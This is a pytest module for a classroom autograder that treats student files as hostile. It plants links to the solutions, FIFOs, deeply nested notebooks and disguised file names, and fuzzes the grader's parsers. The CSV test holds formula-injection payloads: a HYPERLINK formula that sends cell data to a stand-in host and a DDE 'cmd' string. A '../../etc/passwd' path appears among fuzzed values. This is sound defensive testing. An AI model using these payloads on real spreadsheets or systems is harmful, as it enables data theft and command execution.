"""The grader reads students' files as hostile input (issue 29, point 7): each attack is a real file layout in a
temporary folder (real symbolic and hard links, a ``zip -y`` archive unzipped with its links, notebooks nested
200,000 deep, a FIFO), and every parser of a student-controlled file is fuzzed with Hypothesis. A bad file
costs its student that item, with a plain reason; it never costs the batch, and it never reads as "the grader
failed". Nothing here runs a submission's code: where a test is about discovery and the exports, the child
processes that run it are stubbed (``_stub_children``); everything before them (discovery, reading, the
notebook's answer cell) is the grader's own."""
import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import tempfile
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sandbox.errors import BadInput
from sandbox.grading import batch, catalog, discovery, gradebook, grader, untrusted
from sandbox.grading import classroom as grade_cli
from sandbox.grading import notebooks as nb
from sandbox.grading.grader import not_graded

from conftest import ROOT

S, E = ROOT / "solutions", ROOT / "exercises"
CLAIM, STORE = "02_claim_the_key", "03_store_and_replay"
DEEP = "[" * 200_000  # a notebook nested 200,000 deep: json.loads raises RecursionError
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
FUZZ = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module")
def cat():
    return catalog.grading_catalogue()


def _put(path: Path, text: str | None = None, source: Path | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if source is not None:
        shutil.copyfile(source, path)
    else:
        path.write_text(text or "")
    return path


def _stub_children(monkeypatch):
    """Every step of grade() but the child processes that run the code: the answer is read and parsed for real."""
    def children(ex, answer, base, limits, shown):
        assert answer.read_text() is not None
        return grader.ExerciseGrade(ex, not_graded(ex, "x").items)
    monkeypatch.setattr(grader, "_grade_in_children", children)


def _grade_class(monkeypatch, folder, cat, only):
    _stub_children(monkeypatch)
    found = discovery.discover_class(folder, cat, only)
    exercises = batch.graded_exercises(found.submissions, cat, only)
    return found, batch.grade_all(found.submissions, exercises, jobs=1, seed=1, progress=False)


def _unzip_keeping_links(archive: Path, dest: Path) -> None:
    """What unzip does with a ``zip -y`` archive: an entry whose Unix mode is a link becomes that link."""
    with zipfile.ZipFile(archive) as z:
        for info in z.infolist():
            target = dest / info.filename
            target.parent.mkdir(parents=True, exist_ok=True)
            if stat.S_ISLNK(info.external_attr >> 16):
                os.symlink(z.read(info).decode(), target)
            elif not info.is_dir():
                target.write_bytes(z.read(info))


# -- one student cannot stop everyone's grading --------------------------------------------------------
def test_a_notebook_nested_200000_deep_costs_its_student_not_the_batch(tmp_path, cat, monkeypatch):
    subs = tmp_path / "submissions"
    _put(subs / "ann" / f"{CLAIM}.ipynb", DEEP)
    _put(subs / "ann" / "homework.ipynb", DEEP)  # names no exercise: discovery reads it to find out
    _put(subs / f"cy_{STORE}.ipynb", DEEP)
    _put(subs / "bob" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    found, students = _grade_class(monkeypatch, subs, cat, ["02", "03"])
    rows = {s.student: s for s in students}
    assert sorted(rows) == ["ann", "bob", "cy"]
    [ann] = [g for g in rows["ann"].grades if g.exercise.id == "02"]
    assert ann.reason == (f"could not read the submission: {CLAIM}.ipynb is not a notebook (not JSON: its JSON is "
                          "nested too deeply to be a notebook)")
    assert "homework.ipynb: names no exercise" in "\n".join(rows["ann"].ignored)
    assert "nested too deeply" in rows["cy"].grades[1].reason
    assert rows["bob"].grades[0].reason is None  # bob is graded
    with pytest.raises(ValueError, match="nested too deeply"):
        nb.loads(DEEP)


def test_an_nbgrader_timestamp_with_a_zone_name_is_read_and_a_bad_one_costs_only_its_student(tmp_path, cat):
    course = tmp_path / "course" / "submitted"
    stamps = {"ann": "2026-03-01 12:00:00.000000 CET",  # nbgrader's own format in a course set to Europe/Berlin
              "bea": "2026-07-01 12:00:00.000000 CEST", "cal": "2026-03-01 12:00:00.000000 +0530",
              "dan": "2026-03-01 12:00:00.000000 IST",  # India, Ireland or Israel: ambiguous
              "eve": "yesterday, honest", "fay": "\x00\xff" * 50}
    for student, stamp in stamps.items():
        _put(course / student / "week3" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
        _put(course / student / "week3" / "timestamp.txt", stamp + "\n")
    # links in nbgrader's layout: a student's folder, an assignment folder, a timestamp
    os.symlink(course / "ann", course / "gil")
    (course / "hal").mkdir()
    os.symlink(course / "ann" / "week3", course / "hal" / "week3")
    _put(course / "ivy" / "week3" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    os.symlink(course / "ann" / "week3" / "timestamp.txt", course / "ivy" / "week3" / "timestamp.txt")
    subs = {s.student: s for s in discovery.discover_class(course, cat, []).submissions}
    assert sorted(subs) == sorted([*stamps, "gil", "hal", "ivy"])
    assert all("02" in subs[s].files for s in [*stamps, "ivy"]) and not subs["gil"].files and not subs["hal"].files
    assert subs["gil"].ignored == [f"gil/: a symbolic link (to {course / 'ann'}): the grader follows no link out "
                                   "of a submission"]
    assert subs["hal"].ignored == [f"week3: a symbolic link (to {course / 'ann' / 'week3'}): the grader follows no "
                                   "link out of a submission"]
    assert subs["ivy"].submitted_at is None and "timestamp.txt: a symbolic link" in subs["ivy"].remarks[0]
    assert subs["ann"].submitted_at.isoformat() == "2026-03-01T12:00:00+01:00"
    assert subs["bea"].submitted_at.isoformat() == "2026-07-01T12:00:00+02:00"
    assert subs["cal"].submitted_at.isoformat() == "2026-03-01T12:00:00+05:30"
    for student, why in (("dan", "ambiguous (India, Ireland or Israel)"), ("eve", "not a time nbgrader writes"),
                         ("fay", "not a time nbgrader writes")):
        assert subs[student].submitted_at is None and subs[student].time_source == "unknown"
        [remark] = subs[student].remarks
        assert why in remark and "the submission time is unknown (give it with --submitted-at)" in remark


# -- links ---------------------------------------------------------------------------------------------
def _linked_class(root: Path) -> tuple[Path, bytes]:
    """A class where every way of linking out of a submission is tried, beside one honest student."""
    secret = _put(root / "solutions" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    subs = root / "submissions"
    _put(subs / "bob" / f"{CLAIM}.py", (E / f"{CLAIM}.py").read_text() + "# bob's own\n")
    _put(subs / "bob" / "notes.txt", "mine")
    (subs / "eve").mkdir(parents=True)
    os.symlink(secret, subs / "eve" / f"{CLAIM}.py")  # to the solutions
    (subs / "mal").mkdir()
    os.symlink(Path("..") / "bob" / f"{CLAIM}.py", subs / "mal" / f"{CLAIM}.py")  # to a classmate's answer
    (subs / "lin").mkdir()
    os.symlink(secret.parent, subs / "lin" / "work")  # a folder that is a link: lin/work/02_claim_the_key.py
    (subs / "hal").mkdir()
    os.link(secret, subs / "hal" / f"{CLAIM}.py")  # a hard link: the solutions' inode
    os.symlink(secret.parent, subs / "zed")  # a whole student folder that is a link
    os.symlink(secret, subs / f"kim_{CLAIM}.py")  # a file per student, a link
    (subs / "fif").mkdir()
    os.mkfifo(subs / "fif" / f"{CLAIM}.py")  # reading a FIFO with no writer blocks for ever
    # zip -y keeps a link as a link; unzipped into submissions/, it points at the solutions
    packed = root / "packing" / "zoe"
    packed.mkdir(parents=True)
    os.symlink(Path("..") / ".." / "solutions" / f"{CLAIM}.py", packed / f"{CLAIM}.py")
    subprocess.run(["zip", "-q", "-y", "-r", str(root / "zoe.zip"), "zoe"], cwd=packed.parent, check=True)
    _unzip_keeping_links(root / "zoe.zip", subs)
    assert (subs / "zoe" / f"{CLAIM}.py").is_symlink() and (subs / "zoe" / f"{CLAIM}.py").read_bytes()
    return subs, secret.read_bytes()


def test_links_are_never_followed_out_of_a_submission(tmp_path, cat, monkeypatch):
    subs, secret = _linked_class(tmp_path)
    found, students = _grade_class(monkeypatch, subs, cat, ["02"])
    by = {s.student: s for s in found.submissions}
    assert sorted(by) == ["bob", "eve", "fif", "hal", "kim", "lin", "mal", "zed", "zoe"]
    assert sorted(s for s, sub in by.items() if sub.files) == ["bob"]
    assert all(secret not in sub.sources.values() for sub in by.values())
    ignored = {s: "\n".join(sub.ignored) for s, sub in by.items()}
    link = "a symbolic link (to {}): the grader follows no link out of a submission"
    assert link.format(tmp_path / "solutions" / f"{CLAIM}.py") in ignored["eve"]
    assert link.format(f"../bob/{CLAIM}.py") in ignored["mal"]
    assert f"work: {link.format(tmp_path / 'solutions')}" in ignored["lin"]
    assert link.format(f"../../solutions/{CLAIM}.py") in ignored["zoe"]
    assert f"kim_{CLAIM}.py: {link.format(tmp_path / 'solutions' / f'{CLAIM}.py')}" in ignored["kim"]
    assert f"zed: {link.format(tmp_path / 'solutions')}" in ignored["zed"]
    assert (f"{CLAIM}.py: a hard link (one file with 2 names; another name may be outside the submission, such as "
            "the solutions or a classmate's file): hand in a copy, not a link") in ignored["hal"]
    assert f"{CLAIM}.py: a FIFO, not a file the grader reads" in ignored["fif"]
    # every student has a row; only bob is graded from a file. A refused file named after the exercise is
    # handed in, and scores 0 with the reason (not "not submitted": a link is not nothing)
    grades = {s.student: s.grades[0] for s in students}
    assert {s: g.source for s, g in grades.items()} == {
        **{s: f"{CLAIM}.py" for s in ("bob", "eve", "fif", "hal", "mal", "zoe")}, "kim": f"kim_{CLAIM}.py",
        "lin": None, "zed": None}
    assert grades["bob"].reason is None and grades["lin"].reason == grades["zed"].reason == "not submitted"
    assert grades["eve"].reason == (f"could not read the submission: {CLAIM}.py: "
                                    + link.format(tmp_path / "solutions" / f"{CLAIM}.py"))
    assert grades["hal"].reason.startswith(f"could not read the submission: {CLAIM}.py: a hard link")
    assert all(g.score == 0 for s, g in grades.items() if s != "bob")


def test_the_grader_reads_what_discovery_checked_and_refuses_a_link_made_after(tmp_path, cat):
    """Time of check, time of use: discovery reads the bytes once, through a descriptor it checked; the grader
    grades those bytes. A file swapped for a link after discovery is refused when read from its path."""
    subs, secret = _linked_class(tmp_path)
    bob = {s.student: s for s in discovery.discover_class(subs, cat, ["02"]).submissions}["bob"]
    checked = bob.sources["02"]
    path = bob.files["02"]
    path.unlink()
    os.symlink(tmp_path / "solutions" / f"{CLAIM}.py", path)
    assert grader.answer_source(path, cat["02"], checked) == checked.decode()
    with pytest.raises(BadInput, match="a symbolic link"):
        grader.answer_source(path, cat["02"])
    with pytest.raises(untrusted.Refused, match="its folder work is a symbolic link"):
        untrusted.read_file(subs / "lin" / "work" / f"{CLAIM}.py", subs)


def test_the_gradescope_run_reads_its_one_submission_through_no_link(tmp_path, cat):
    subs, secret = _linked_class(tmp_path)
    sub = batch.Submission("submission")
    batch.read_student(sub, subs / "eve", cat, ["02"])
    assert sub.files == {} and "a symbolic link" in sub.ignored[0]


def test_a_folder_too_deep_or_too_full_is_named_not_walked_for_ever(tmp_path, cat, monkeypatch):
    monkeypatch.setattr(untrusted, "MAX_DEPTH", 3)
    monkeypatch.setattr(untrusted, "MAX_ENTRIES", 12)
    subs = tmp_path / "submissions"
    _put(subs / "ann" / "a" / "b" / "c" / "d" / "e" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    for i in range(20):
        _put(subs / "bob" / f"notes{i:02d}.txt", "x")
    _put(subs / "cy" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    by = {s.student: s for s in discovery.discover_class(subs, cat, ["02"]).submissions}
    assert by["ann"].ignored == ["a/b/c/d: a folder nested more than 3 deep: not looked into"]
    assert by["bob"].ignored[-1] == ".: more than 12 files and folders: the rest were not looked at"
    assert sorted(by["cy"].files) == ["02"]


def test_a_folder_that_cannot_be_opened_is_named_and_the_rest_is_graded(tmp_path, cat, monkeypatch):
    """(As root, no permission bit stops a read: the refusal is made where the grader opens the folder.)"""
    subs = tmp_path / "submissions"
    _put(subs / "ann" / "locked" / "x.py", "")
    _put(subs / "ann" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    real = untrusted.open_dir

    def open_dir(root, parts=()):
        if parts[-1:] == ("locked",):
            raise PermissionError(13, "Permission denied")
        return real(root, parts)
    monkeypatch.setattr(untrusted, "open_dir", open_dir)
    [ann] = discovery.discover_class(subs, cat, ["02"]).submissions
    assert sorted(ann.files) == ["02"] and ann.ignored == ["locked: could not be read (Permission denied)"]


def test_a_name_prints_as_what_it_is_on_one_line(tmp_path, cat):
    subs = tmp_path / "submissions"
    disguised = "answer\u202eyp.txt"  # shown by a right-to-left override as "answertxt.py"
    _put(subs / "ann" / disguised, "x")
    _put(subs / "ann" / "two\nlines.py", "x")
    (subs / "ann" / os.fsdecode(b"bad\xffbyte.txt")).write_text("x")
    [ann] = discovery.discover_class(subs, cat, []).submissions
    assert sorted(ann.ignored) == ["answer\\u202eyp.txt: not a .py file or a notebook",
                                   "bad\\xffbyte.txt: not a .py file or a notebook",
                                   "two\\nlines.py: names no exercise (not its name, its notebook metadata or its "
                                   "code)"]


def test_students_whose_names_look_alike_keep_their_own_reports(tmp_path, monkeypatch, capsys):
    subs = tmp_path / "submissions"
    for name in ("bob", "bob.", "Bob", "b o b", "b_o_b"):
        _put(subs / name / f"{CLAIM}.py", f"# {name}'s\n" + (S / f"{CLAIM}.py").read_text())
    out, _ = _grade_with_cli(tmp_path, subs, monkeypatch, capsys, "--exercise", "02")
    feedback = sorted(p.read_text().split(":")[0] for p in out.glob("*/feedback.txt"))
    assert feedback == sorted(["bob", "bob.", "Bob", "b o b", "b_o_b"])


# -- which file is graded ------------------------------------------------------------------------------
def test_the_exact_name_wins_over_browser_copies_and_notes_say_so(tmp_path, cat):
    subs = tmp_path / "submissions"
    _put(subs / "ann" / f"{STORE}.py", source=S / f"{STORE}.py")
    _put(subs / "ann" / f"{STORE} (1).py", source=E / f"{STORE}.py")
    _put(subs / "bob" / f"{CLAIM}.ipynb", source=S / f"{CLAIM}.ipynb")
    _put(subs / "bob" / f"{CLAIM}(2).ipynb", source=S / f"{CLAIM}.ipynb")
    _put(subs / "bob" / f"Copy of {CLAIM}.ipynb", source=S / f"{CLAIM}.ipynb")
    _put(subs / "cy" / f"{CLAIM} (1).py", source=S / f"{CLAIM}.py")  # only a copy: it is the answer
    by = {s.student: s for s in discovery.discover_class(subs, cat, []).submissions}
    assert by["ann"].files["03"].name == f"{STORE}.py"
    assert by["ann"].notes["03"] == (f"graded {STORE}.py, not the copies {STORE} (1).py: the exact name wins over a "
                                     "browser's copy (they differ: check which the student meant)")
    assert (f"{STORE} (1).py: not graded; {STORE}.py was, for exercise 03 (the exact name wins over a browser's "
            "copy)") in by["ann"].ignored
    assert by["bob"].files["02"].name == f"{CLAIM}.ipynb"
    assert "they hold the same code" in by["bob"].notes["02"] and f"Copy of {CLAIM}.ipynb" in by["bob"].notes["02"]
    assert by["cy"].files["02"].name == f"{CLAIM} (1).py" and "02" not in by["cy"].notes


def _with_answer_untagged(notebook: dict, code: str) -> dict:
    notebook = json.loads(json.dumps(notebook))
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                              "source": code.splitlines(keepends=True)})
    return notebook


def test_an_answer_typed_in_an_untagged_cell_is_pointed_out_in_the_feedback(tmp_path, cat, monkeypatch):
    stub = nb.read(E / f"{CLAIM}.ipynb")
    solution = (S / f"{CLAIM}.py").read_text()
    subs = tmp_path / "submissions"
    _put(subs / "ann" / f"{CLAIM}.ipynb", json.dumps(_with_answer_untagged(stub, solution)))
    for name in ("02", "03", "04", "05", "06", "07", "08", "09"):  # a worked notebook is not flagged
        ex = cat[name]
        _put(subs / "sol" / f"{ex.name}.ipynb", source=S / f"{ex.name}.ipynb")
    found, students = _grade_class(monkeypatch, subs, cat, [])
    by = {s.student: s for s in students}
    defined = ", ".join(sorted(set(re.findall(r"^def (\w+)", solution, re.M))))
    pointer = (f"Exercise 02: cell {len(stub['cells']) + 1} of the notebook (counting from the top, text cells "
               f"included) defines {defined}, but it is not the answer cell: only the cell tagged 'answer' is graded "
               "(it still holds the stub); move the code into the answer cell and run check() again")
    assert pointer in by["ann"].feedback().splitlines()
    assert not any("not the answer cell" in note for note in by["sol"].notes.values()), by["sol"].notes


# -- a malformed notebook is the student's, not the grader's -------------------------------------------
MALFORMED = {"list": "[]", "null": "null", "string": '"a notebook"', "cells-number": '{"cells": 5}',
             "cell-number": '{"cells": [1, 2]}', "tags-number": '{"cells": [{"metadata": {"tags": 7}}]}',
             "metadata-list": '{"cells": [{"metadata": []}], "metadata": []}', "not-json": "{ nope",
             "bytes": "\udcff\udcfe"}


def test_a_malformed_notebook_is_the_students_problem_not_the_graders(tmp_path, cat, monkeypatch):
    subs = tmp_path / "submissions"
    for student, text in MALFORMED.items():
        (subs / student).mkdir(parents=True)
        (subs / student / f"{CLAIM}.ipynb").write_bytes(text.encode("utf-8", "surrogateescape"))
    found, students = _grade_class(monkeypatch, subs, cat, ["02"])
    reasons = {s.student: s.grades[0].reason for s in students}
    assert sorted(reasons) == sorted(MALFORMED)
    assert not any("the grader failed" in r for r in reasons.values()), reasons
    assert reasons["list"] == f"could not read the submission: {CLAIM}.ipynb is not a notebook (its JSON is a list, " \
                              "not a notebook's object)"
    assert reasons["cell-number"].endswith("(one of its cells is not an object)")
    assert reasons["tags-number"].endswith("exactly one cell must be tagged 'answer' (the answer cell of "
                                           f"exercises/{CLAIM}.ipynb); found 0")
    assert "not JSON" in reasons["not-json"] and "not JSON" in reasons["bytes"]


# -- the CSV files -------------------------------------------------------------------------------------
def _all_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _grade_with_cli(tmp_path, subs, monkeypatch, capsys, *extra):
    _stub_children(monkeypatch)
    out = tmp_path / "results"
    code = grade_cli.main([str(subs), "--out", str(out), "--unsafe-no-sandbox", "--no-progress", "--seed", "1",
                           *extra])
    assert code == 0
    return out, capsys.readouterr().out


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, cat, monkeypatch, capsys):
    subs = tmp_path / "submissions"
    evil = ['=HYPERLINK("https:x.example?"&A1,"grades")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx"]
    for i, name in enumerate(evil):
        _put(subs / name / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
        _put(subs / name / f"=cmd{i}.txt", "x")
    _put(subs / f"=IMPORTXML(A1)_{CLAIM}.py", source=S / f"{CLAIM}.py")
    text = io.StringIO()
    csv.writer(text).writerows([["student", "id", "email", "name"],
                                *[[s, i, f"=1+{i}@x.example", f"-{s}"] for i, s in enumerate(evil)]])
    roster = _put(tmp_path / "roster.csv", text.getvalue())
    out, summary = _grade_with_cli(tmp_path, subs, monkeypatch, capsys, "--exercise", "02", "--roster", str(roster),
                                   "--lms", "canvas", "--lms", "moodle")
    files = [out / "grades.csv", out / "canvas.csv", out / "moodle.csv", out / "not_on_roster.csv"]
    for path in files:
        cells = _all_cells(path)
        assert cells and not [c for c in cells if c.startswith(FORMULA)], path
    grades = {r["student"]: r for r in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
    assert "'" + evil[0] in grades and grades["'" + evil[0]]["ignored_files"] == \
        "'=cmd0.txt: not a .py file or a notebook"


def test_students_missing_from_the_roster_are_listed_and_not_exported(tmp_path, cat, monkeypatch, capsys):
    subs = tmp_path / "submissions"
    for s in ("ann", "bob", "typo_ann"):
        _put(subs / s / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    roster = _put(tmp_path / "roster.csv", "student,id,email\nann,1,ann@x.example\nbob,2,bob@x.example\n"
                                           "cy,3,cy@x.example\n")
    out, summary = _grade_with_cli(tmp_path, subs, monkeypatch, capsys, "--exercise", "02", "--exercise", "03",
                                   "--roster", str(roster), "--lms", "canvas", "--lms", "moodle")
    assert (f"not on the roster, so in no gradebook file ({out / 'not_on_roster.csv'} lists them): typo_ann"
            in summary)
    assert [r["student"] for r in csv.DictReader((out / "not_on_roster.csv").open())] == ["typo_ann"]
    for lms in ("canvas", "moodle"):
        assert "typo_ann" not in (out / f"{lms}.csv").read_text()
    grades = {r["student"]: r for r in csv.DictReader((out / "grades.csv").open())}
    assert sorted(grades) == ["ann", "bob", "cy", "typo_ann"]  # grades.csv keeps everyone


def test_not_submitted_is_its_own_mark_in_grades_csv_and_empty_in_the_lms_files(tmp_path, cat, monkeypatch, capsys):
    subs = tmp_path / "submissions"
    _put(subs / "ann" / f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    roster = _put(tmp_path / "roster.csv", "student,id,email\nann,1,ann@x.example\ncy,3,cy@x.example\n")
    out, summary = _grade_with_cli(tmp_path, subs, monkeypatch, capsys, "--exercise", "02", "--exercise", "03",
                                   "--roster", str(roster), "--lms", "canvas", "--lms", "moodle")
    grades = {r["student"]: r for r in csv.DictReader((out / "grades.csv").open())}
    assert (grades["ann"]["score"], grades["ann"][CLAIM], grades["ann"][STORE]) == ("0", "0", "not submitted")
    assert (grades["cy"]["score"], grades["cy"][CLAIM], grades["cy"][STORE]) == ("not submitted",) * 3
    canvas = list(csv.reader((out / "canvas.csv").open()))
    assert canvas[2][5:] == ["0", ""] and canvas[3][0] == "cy" and canvas[3][5:] == ["", ""]
    moodle = list(csv.reader((out / "moodle.csv").open()))
    assert moodle[1][3:] == ["0", ""] and moodle[2][3:] == ["", ""]
    assert "cy                       not submitted (of " in summary
    assert not (out / "not_on_roster.csv").exists()


# -- Hypothesis: every parser of a student-controlled file -----------------------------------------------
JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=20)
CELL = st.fixed_dictionaries({}, optional={
    "cell_type": st.sampled_from(["code", "markdown"]) | JSON,
    "metadata": st.fixed_dictionaries({}, optional={"tags": st.lists(st.sampled_from(["answer", "tests"]) | JSON,
                                                                     max_size=3) | JSON}) | JSON,
    "source": st.lists(st.sampled_from(["def handler(event, context):\n", "    return 1\n", "raise "
                                        "NotImplementedError\n"]) | JSON, max_size=4) | st.text(max_size=60) | JSON})
NOTEBOOK = st.fixed_dictionaries({}, optional={
    "cells": st.lists(CELL | JSON, max_size=5) | JSON,
    "metadata": st.fixed_dictionaries({}, optional={nb.METADATA_KEY: st.fixed_dictionaries(
        {}, optional={"id": st.sampled_from(["02", "03", "99", 2]) | JSON}) | JSON}) | JSON}) | JSON


@FUZZ
@given(notebook=NOTEBOOK, junk=st.binary(max_size=64), nesting=st.integers(0, 3000))
def test_fuzz_a_notebook_costs_at_most_its_item(cat, notebook, junk, nesting):
    for data in (json.dumps(notebook).encode(), junk, b"[" * nesting + junk, json.dumps(notebook).encode() + junk):
        for name in (f"{CLAIM}.ipynb", "homework.ipynb"):
            path = Path("/nonexistent") / name
            ex_id, how = discovery.identify(path, cat, [], data)
            assert ex_id is None or ex_id in cat
            try:
                code = grader.answer_source(path, cat["02"], data)
            except BadInput as exc:
                assert str(exc).startswith(name)
            else:
                assert isinstance(code, str)
                code.encode("utf-8")  # a file can hold it
            discovery._untagged_answer(data, cat["02"])


TIME = st.builds(lambda d, zone: f"{d.isoformat(sep=' ')}{zone}",
                 st.datetimes(), st.sampled_from(["", " UTC", " CET", " CEST", " IST", " ", " +0100", " -23:59",
                                                  " +99:99", " Europe/Berlin", " ../../etc/passwd", " Mars/Olympus",
                                                  " Z", "Z", " 12"]) | st.text(max_size=12).map(lambda t: " " + t))


@FUZZ
@given(text=TIME | st.text(max_size=80))
def test_fuzz_an_nbgrader_timestamp_is_a_time_or_a_plain_reason(text):
    try:
        when = discovery.parse_nbgrader_time(text, "timestamp.txt")
    except BadInput as exc:
        assert str(exc).startswith("timestamp.txt: ")
    else:
        assert when.tzinfo is not None and when.utcoffset() is not None


@FUZZ
@given(rows=st.lists(st.lists(st.text(max_size=12), max_size=5), max_size=5), junk=st.binary(max_size=30),
       header=st.sampled_from(["student,submitted_at", "student,id,email", "student,id,email,name,section", ""]))
def test_fuzz_a_roster_or_manifest_is_read_or_refused_in_words(rows, junk, header):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "file.csv"
        text = io.StringIO()
        csv.writer(text).writerows(rows)
        path.write_bytes(header.encode() + b"\n" + text.getvalue().encode("utf-8", "surrogatepass") + junk)
        for read in (gradebook.read_manifest, gradebook.read_roster):
            try:
                read(path)
            except BadInput:
                pass


NAME = st.text(st.characters(exclude_characters="/\x00", exclude_categories=["Cs"]), min_size=1, max_size=40).filter(
    lambda n: n not in (".", "..") and len(os.fsencode(n)) < 200)


@FUZZ
@given(names=st.lists(NAME, min_size=1, max_size=4, unique=True), raw=st.binary(min_size=1, max_size=20))
def test_fuzz_file_names_are_shown_as_text_that_prints(cat, names, raw):
    raw_name = os.fsdecode(raw.replace(b"/", b"_").replace(b"\x00", b"_"))
    if raw_name in (".", ".."):
        raw_name = "_"
    with tempfile.TemporaryDirectory() as tmp:
        subs = Path(tmp)
        for name in [*names, raw_name]:
            for path in (subs / name / f"{CLAIM}.py", subs / f"{name}_{CLAIM}.py", subs / f"{name}.ipynb"):
                try:
                    _put(path, "def handler(event, context):\n    return {}\n")
                except OSError:  # the file system's own limits (a name too long, for instance)
                    continue
        try:
            found = discovery.discover_class(subs, cat, [])
        except BadInput:
            return  # nothing the grader could take for a submission
        for sub in found.submissions:
            for text in [sub.student, *sub.ignored, *sub.notes.values(), *found.strays]:
                text.encode("utf-8")
                assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text), text


# -- Hypothesis: a hostile class always finishes, with a row for each student ------------------------------
ATTACKS = ("good", "stub_notebook", "untagged", "deep", "malformed", "link_solutions", "link_classmate",
           "link_folder", "hard_link", "fifo", "copy", "odd_name", "nbgrader_noise")


def _attack(kind: str, student: Path, secret: Path, classmate: Path | None, odd: str, junk: str) -> None:
    """One attack in a student's folder; none writes through a link an earlier attack made."""
    student.mkdir(parents=True, exist_ok=True)

    def put(name: str, text: str | None = None, source: Path | None = None) -> None:
        path = student / name
        if os.path.lexists(path):
            return
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(source.read_bytes() if source else (text or "").encode("utf-8", "surrogatepass"))
        except OSError:  # the file system's own limits (a name too long, for instance)
            pass

    def link(name: str, target: Path, hard: bool = False) -> None:
        if not os.path.lexists(student / name):
            (os.link if hard else os.symlink)(target, student / name)

    if kind == "good":
        put(f"{CLAIM}.py", source=S / f"{CLAIM}.py")
    elif kind == "stub_notebook":
        put(f"{CLAIM}.ipynb", source=E / f"{CLAIM}.ipynb")
    elif kind == "untagged":
        put(f"{CLAIM}.ipynb", json.dumps(_with_answer_untagged(nb.read(E / f"{CLAIM}.ipynb"), "def handler(e, c):\n")))
    elif kind == "deep":
        put(f"{CLAIM}.ipynb", DEEP)
    elif kind == "malformed":
        put(f"{CLAIM}.ipynb", junk)
    elif kind == "link_solutions":
        link(f"{CLAIM}.py", secret)
    elif kind == "link_classmate" and classmate is not None:
        link(f"{CLAIM}.py", classmate)
    elif kind == "link_folder":
        link("work", secret.parent)
    elif kind == "hard_link":
        link(f"hl_{CLAIM}.py", secret, hard=True)
    elif kind == "fifo" and not os.path.lexists(student / "pipe.py"):
        os.mkfifo(student / "pipe.py")
    elif kind == "copy":
        put(f"{CLAIM} (1).py", source=E / f"{CLAIM}.py")
    elif kind == "odd_name":
        put(f"{odd}.py", junk)
    elif kind == "nbgrader_noise":
        put(f".ipynb_checkpoints/{CLAIM}-checkpoint.ipynb", DEEP)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                   HealthCheck.function_scoped_fixture])
@given(plan=st.lists(st.tuples(st.sampled_from(["ann", "bob", "=cy", "+dee", "@eve", "-fay", "gus\tx", "hé"]),
                               st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=4)),
                     min_size=1, max_size=6, unique_by=lambda p: p[0]),
       odd=NAME, junk=st.sampled_from(list(MALFORMED.values())) | st.text(max_size=30),
       roster_cut=st.integers(0, 6), nbgrader=st.booleans(), stamps=st.lists(TIME | st.text(max_size=40),
                                                                                min_size=6, max_size=6))
def test_a_hostile_class_always_finishes_with_a_row_per_student(cat, monkeypatch, plan, odd, junk, roster_cut,
                                                                 nbgrader, stamps):
    """Folders per student or nbgrader's layout (with any timestamp), each student's folder holding some of the
    attacks: discovery, the reading of each answer and every export run for real, and always finish."""
    _stub_children(monkeypatch)
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        secret = _put(root / "solutions" / f"{CLAIM}.py", (S / f"{CLAIM}.py").read_text() + "# the solutions'\n")
        subs = root / "submissions"
        subs.mkdir()
        classmate = None
        for (name, attacks), stamp in zip(plan, stamps):
            folder = subs / name / "week3" if nbgrader else subs / name
            for kind in attacks:
                _attack(kind, folder, secret, classmate, odd, junk)
            if nbgrader:
                (folder / "timestamp.txt").write_bytes(stamp.encode("utf-8", "surrogatepass"))
            if (folder / f"{CLAIM}.py").is_file() and not (folder / f"{CLAIM}.py").is_symlink():
                classmate = folder / f"{CLAIM}.py"
        students_on_disk = sorted(untrusted.shown(p.name) for p in subs.iterdir())
        found = discovery.discover_class(subs, cat, ["02"])
        graded = batch.grade_all(found.submissions, [cat["02"]], jobs=1, seed=1, progress=False)
        assert sorted(s.student for s in graded) == students_on_disk
        for s in graded:
            reason = s.grades[0].reason or ""
            assert "the grader failed" not in reason, reason
        for sub in found.submissions:
            for path in sub.files.values():  # nothing graded is a link or shares its inode
                st_ = os.lstat(path)
                assert stat.S_ISREG(st_.st_mode) and st_.st_nlink == 1
            assert secret.read_bytes() not in sub.sources.values()
        people = {s.student: gradebook.Person(s.student, id=f"-{i}") for i, s in enumerate(graded[:roster_cut])}
        out = root / "results"
        batch.write_results(out, graded, [cat["02"]], 1, roster=True)
        gradebook.write_lms(out, ["canvas", "moodle"], graded, [cat["02"]], people, "Week 3")
        gradebook.write_not_on_roster(out / "not_on_roster.csv", graded, people)
